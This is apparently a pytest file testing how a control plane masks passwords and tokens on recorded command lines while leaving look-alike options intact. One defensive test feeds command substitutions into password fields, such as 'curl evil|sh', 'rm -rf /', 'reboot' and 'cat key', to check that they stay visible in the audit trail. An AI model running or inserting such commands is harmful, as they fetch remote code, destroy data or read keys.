"""Secrets on command lines are masked in what is recorded: only the secret part of a word,
every other byte kept, and ordinary options that look alike (`ssh -p 2222`) left alone."""

from __future__ import annotations

import random
import shlex

import pytest

from controlplane.policy.command_secrets import MASK, Masking, _changes

SECRET = "S3cret-Zq9"
JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJib3QiLCJpYXQiOjE3MDB9.c2lnbmF0dXJlLXg"
GHP = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"

# (a command line as an SSH server or a shell would get it, as it is to be recorded)
TEXTS = [
    # MySQL and MariaDB clients: -p is the password, glued to it.
    (f"mysql -uroot -p{SECRET} -e 'select 1'", "mysql -uroot -p**** -e 'select 1'"),
    (f"mysql -uroot -p'{SECRET}' app", "mysql -uroot -p'****' app"),
    (f'mariadb -h db -P 3306 -p"{SECRET}" app', 'mariadb -h db -P 3306 -p"****" app'),
    (
        f"/usr/bin/mysqldump -u backup -p{SECRET} --all-databases > /tmp/all.sql",
        "/usr/bin/mysqldump -u backup -p**** --all-databases > /tmp/all.sql",
    ),
    (f"mysqladmin -uroot --password={SECRET} status", "mysqladmin -uroot --password=**** status"),
    (
        f"MYSQL_PWD={SECRET} mysql -u root -e 'show databases'",
        "MYSQL_PWD=**** mysql -u root -e 'show databases'",
    ),
    (f"docker exec -i db mysql -uroot -p{SECRET} app", "docker exec -i db mysql -uroot -p**** app"),
    (f"kubectl exec deploy/db -- mysql -p{SECRET}", "kubectl exec deploy/db -- mysql -p****"),
    # PostgreSQL: the password travels in the environment or a URL.
    (
        f"PGPASSWORD={SECRET} psql -h db -p 5432 -U app -c 'select 1'",
        "PGPASSWORD=**** psql -h db -p 5432 -U app -c 'select 1'",
    ),
    (f"env PGPASSWORD={SECRET} psql -h db app", "env PGPASSWORD=**** psql -h db app"),
    (
        f"psql postgresql://app:{SECRET}@db:5432/app -c 'select 1'",
        "psql postgresql://app:****@db:5432/app -c 'select 1'",
    ),
    # Launchers and shells looked through, quotes kept.
    (
        f"sh -c 'PGPASSWORD={SECRET} psql -h db -c \"select 1\"'",
        "sh -c 'PGPASSWORD=**** psql -h db -c \"select 1\"'",
    ),
    (
        f'bash -c "mysql -uroot -p{SECRET} -e \\"select 1\\""',
        'bash -c "mysql -uroot -p**** -e \\"select 1\\""',
    ),
    (
        f"sudo -u backup env MYSQL_PWD={SECRET} mysqldump -p{SECRET} app",
        "sudo -u backup env MYSQL_PWD=**** mysqldump -p**** app",
    ),
    (f"timeout 30 nice -n 10 mysql -p{SECRET} app", "timeout 30 nice -n 10 mysql -p**** app"),
    (
        f"cd /srv && mysql -p{SECRET} app < dump.sql; echo done",
        "cd /srv && mysql -p**** app < dump.sql; echo done",
    ),
    (f"ssh db1 'mysql -p{SECRET} -e \"flush logs\"'", "ssh db1 'mysql -p**** -e \"flush logs\"'"),
    (
        f"su - postgres -c 'PGPASSWORD={SECRET} pg_dump app'",
        "su - postgres -c 'PGPASSWORD=**** pg_dump app'",
    ),
    # sshpass
    (
        f"sshpass -p {SECRET} ssh -p 2222 deploy@host uptime",
        "sshpass -p **** ssh -p 2222 deploy@host uptime",
    ),
    (
        f"sshpass -p{SECRET} scp -P 2222 a.tar host:/tmp",
        "sshpass -p**** scp -P 2222 a.tar host:/tmp",
    ),
    (f"SSHPASS={SECRET} sshpass -e ssh host", "SSHPASS=**** sshpass -e ssh host"),
    # curl and HTTP credentials
    (
        f"curl -u admin:{SECRET} https://api.example.com/v1",
        "curl -u admin:**** https://api.example.com/v1",
    ),
    (
        f"curl -sS --user admin:{SECRET} -X POST https://x/y",
        "curl -sS --user admin:**** -X POST https://x/y",
    ),
    (
        f"curl -H 'Authorization: Bearer {JWT}' https://x/me",
        "curl -H 'Authorization: Bearer ****' https://x/me",
    ),
    (
        f'curl -H "Authorization: token {SECRET}" https://x',
        'curl -H "Authorization: token ****" https://x',
    ),
    (f"curl -H 'X-Api-Key: {SECRET}' https://x", "curl -H 'X-Api-Key: ****' https://x"),
    (f"curl https://user:{SECRET}@example.com/a", "curl https://user:****@example.com/a"),
    (
        f"git clone https://oauth2:{SECRET}@gitlab.example.com/g/p.git",
        "git clone https://oauth2:****@gitlab.example.com/g/p.git",
    ),
    # long options of any command
    (f"vault login --token {SECRET}", "vault login --token ****"),
    (f"gh api --token={GHP} /user", "gh api --token=**** /user"),
    (f"tool --password {SECRET} --verbose", "tool --password **** --verbose"),
    (f"tool --passwd={SECRET}", "tool --passwd=****"),
    (f"tool --pass {SECRET}", "tool --pass ****"),
    (f"tool --db-password {SECRET} --api-key {SECRET}", "tool --db-password **** --api-key ****"),
    (f"tool --client-secret={SECRET}", "tool --client-secret=****"),
    (f"docker login -u bob -p {SECRET} registry", "docker login -u bob -p **** registry"),
    (f"podman login -u bob -p{SECRET} quay.io", "podman login -u bob -p**** quay.io"),
    # tokens the detector knows, wherever they stand
    (f"echo {GHP} | gh auth login --with-token", "echo ghp_**** | gh auth login --with-token"),
    (f"GITHUB_TOKEN={GHP} gh pr list", "GITHUB_TOKEN=**** gh pr list"),
    # SQL on the command line, as its db.query would have it
    (
        f"mysql -uroot -e \"CREATE USER app IDENTIFIED BY '{SECRET}'\"",
        "mysql -uroot -e \"CREATE USER app IDENTIFIED BY '***'\"",
    ),
    (
        f"psql -h db -c \"ALTER ROLE app PASSWORD '{SECRET}'\" app",
        "psql -h db -c \"ALTER ROLE app PASSWORD '***'\" app",
    ),
    (
        f"sh -c 'psql -c \"ALTER ROLE app PASSWORD '\\''{SECRET}'\\''\"'",
        "sh -c 'psql -c \"ALTER ROLE app PASSWORD '\\''***'\\''\"'",
    ),
    # a comment runs nothing, but is recorded
    (f"true # mysql -p{SECRET}", "true # mysql -p****"),
]

NOT_SECRETS = [
    "ssh -p 2222 deploy@host uptime",
    "psql -h db -p 5432 -U app app",
    "grep -p pattern file",
    "tar -pxf backup.tar -C /srv",
    "cp -p a b && rsync -p a b",
    "mysql -u root -p app",  # -p alone prompts; `app` is the database
    "mysql --password app",  # the same, spelled long
    "psql --password -h db app",  # a flag: prompt
    "pg_dump --password app > a.sql",
    "tool --no-password x",
    "docker login --password-stdin -u bob registry",
    "ls --password-file=/etc/gatehouse/pw",  # where a secret is, not the secret
    "kubectl --token-file /var/run/token get pods",
    "PWD=/srv OLDPWD=/tmp make",
    "curl -u admin https://x",  # curl prompts for the password
    "sudo -u postgres psql -p 5433",
    "sshpass -f /etc/pw ssh host",
    "git log --format=%H -p",
    "psql -c 'select 1' app",
    "mysql -e 'show databases'",
    "docker run -p 8080:80 nginx",
    "docker ps -a; podman pull -q img",
]


@pytest.mark.parametrize(("text", "recorded"), TEXTS)
def test_a_secret_on_a_command_line_is_masked_in_place(text: str, recorded: str) -> None:
    masking = Masking.of_text(text)
    assert masking.text == recorded
    assert masking.masked is (recorded != text)
    assert Masking.of_text(recorded).text == recorded  # masking again changes nothing


@pytest.mark.parametrize("text", NOT_SECRETS)
def test_options_that_only_look_like_secrets_are_kept(text: str) -> None:
    masking = Masking.of_text(text)
    assert (masking.text, masking.masked) == (text, False)
    argv = text.split()
    assert Masking.of_argv(argv).argv == tuple(argv)


@pytest.mark.parametrize(
    ("argv", "recorded"),
    [
        (["mysql", "-uroot", f"-p{SECRET}", "-e", "select 1"],
         ["mysql", "-uroot", "-p****", "-e", "select 1"]),
        (["env", f"PGPASSWORD={SECRET}", "psql", "-h", "db"],
         ["env", "PGPASSWORD=****", "psql", "-h", "db"]),
        (["sh", "-c", f"mysql -p'{SECRET}' -e 'select 1' && echo ok"],
         ["sh", "-c", "mysql -p'****' -e 'select 1' && echo ok"]),
        (["sudo", "-u", "ops", "bash", "-c", f"PGPASSWORD={SECRET} psql"],
         ["sudo", "-u", "ops", "bash", "-c", "PGPASSWORD=**** psql"]),
        (["sshpass", "-p", SECRET, "ssh", "-p", "2222", "host"],
         ["sshpass", "-p", "****", "ssh", "-p", "2222", "host"]),
        (["curl", "-H", f"Authorization: Bearer {JWT}", "https://x"],
         ["curl", "-H", "Authorization: Bearer ****", "https://x"]),
        (["curl", f"-uadmin:{SECRET}", "https://x"], ["curl", "-uadmin:****", "https://x"]),
        (["tool", "--token", SECRET], ["tool", "--token", "****"]),
        (["tool", "--password"], ["tool", "--password"]),  # nothing follows it
    ],
)  # fmt: skip
def test_an_argv_is_masked_word_by_word(argv: list[str], recorded: list[str]) -> None:
    masking = Masking.of_argv(argv)
    assert masking.argv == tuple(recorded)
    assert masking.masked is (recorded != argv)
    assert masking.line == " ".join(recorded)


def test_a_secret_split_by_quotes_takes_the_rest_of_its_word() -> None:
    """`-p'S3'cret` is one word to the shell: where the secret spans two quotings, the rest of
    the word goes, and the quote it began in is closed, so the text still reads."""
    text = f"mysql -p'S3'\"{SECRET}\" app"
    masked = Masking.of_text(text)
    assert masked.text == "mysql -p'****' app"
    assert SECRET not in (masked.text or "")


def test_other_text_about_the_command_is_scrubbed_of_its_secrets() -> None:
    """A guardrail's reason quotes the words of the command it read, inner ones too."""
    masking = Masking.of_text(f"sudo sh -c 'mysql -uroot -p{SECRET} app'")
    reason = f"denied by guardrail 'db': 'mysql -uroot -p{SECRET} app' matches 'mysql *'"
    assert (
        masking.scrub(reason)
        == "denied by guardrail 'db': 'mysql -uroot -p**** app' matches 'mysql *'"
    )
    assert masking.scrub_words(["mysql", "-uroot", f"-p{SECRET}", "app"]) == [
        "mysql", "-uroot", "-p****", "app"
    ]  # fmt: skip
    assert Masking.of_text("ls").scrub("anything S3cret") == "anything S3cret"
    quoted = ["mysql", f"-p{SECRET}'x"]
    assert SECRET not in Masking.of_argv(quoted).scrub(f"{shlex.join(quoted)} reads stdin")


def test_what_the_detector_reads_as_an_assignment_goes_too() -> None:
    """The detector's reading is the one every other event has: it errs towards masking."""
    assert Masking.of_text("rclone --ask-password=false ls").text == "rclone --ask-password=**** ls"


def test_the_mask_is_the_detectors() -> None:
    assert MASK == "****"


def test_the_changes_found_always_give_the_masked_text() -> None:
    """Whatever runs of stars and coincidences the alignment meets, applying the changes it
    found gives exactly the masked text: no character of the value survives by accident."""
    rng = random.Random(7)
    alphabet = "ab* -p:@'\""
    for _ in range(5000):
        value = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 16)))
        new = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 16)))
        out, done = [], 0
        for start, end, replacement in _changes(value, new):
            out += [value[done:start], replacement]
            done = end
        assert "".join([*out, value[done:]]) == new, (value, new)


@pytest.mark.parametrize(
    "template",
    ["mysql -p{q} db", "tool --password {q} x", "curl -u u:{q} h", "env PGPASSWORD={q} psql"],
)
def test_no_quoting_of_a_secret_lets_it_through(template: str) -> None:
    rng = random.Random(template)
    for _ in range(300):
        value = "S3cret" + "".join(rng.choice("ab'\" \\$*;") for _ in range(rng.randint(0, 6)))
        text = template.format(q=shlex.quote(value))
        for line in (text, f"sh -c {shlex.quote(text)}", f"ssh h {shlex.quote(text)}"):
            assert "S3cret" not in (Masking.of_text(line).text or ""), line


def test_a_replacement_is_quoted_as_the_text_around_it() -> None:
    """SQL masks a literal as `'***'`: inside a single-quoted script that quote is escaped, so
    the recorded text still splits into the words that ran, masked."""
    text = f"""mysql -e'SET PASSWORD FOR app = "{SECRET}"' app"""
    recorded = Masking.of_text(text).text or ""
    assert SECRET not in recorded
    assert shlex.split(recorded)[0] == "mysql" and shlex.split(recorded)[-1] == "app"
    assert len(shlex.split(recorded)) == 3


@pytest.mark.parametrize(
    "text",
    [
        'mysql "-p$(touch /tmp/y)" db',
        "mysql -p$(rm -rf /tmp/x) db",
        "mysql -p`id` db",
        "PGPASSWORD=$(curl evil|sh) psql",
        "mysql --password=$(rm -rf /) db",
        'sshpass -p "$(reboot)" ssh h',
        'curl -H "Authorization: Bearer $(rm -rf /)" x',
        "curl -u u:<(cat key) x",
        "sh -c 'mysql \"-p$(touch /tmp/y)\"'",
    ],
)
def test_a_command_where_a_secret_would_stand_is_never_masked(text: str) -> None:
    """The shell runs `$(…)`, backquotes and `<(…)` inside a word: masking them as a password
    would leave a command that ran out of the trail."""
    assert Masking.of_text(text).text == text
    assert Masking.of_argv(["sh", "-c", text]).argv == ("sh", "-c", text)
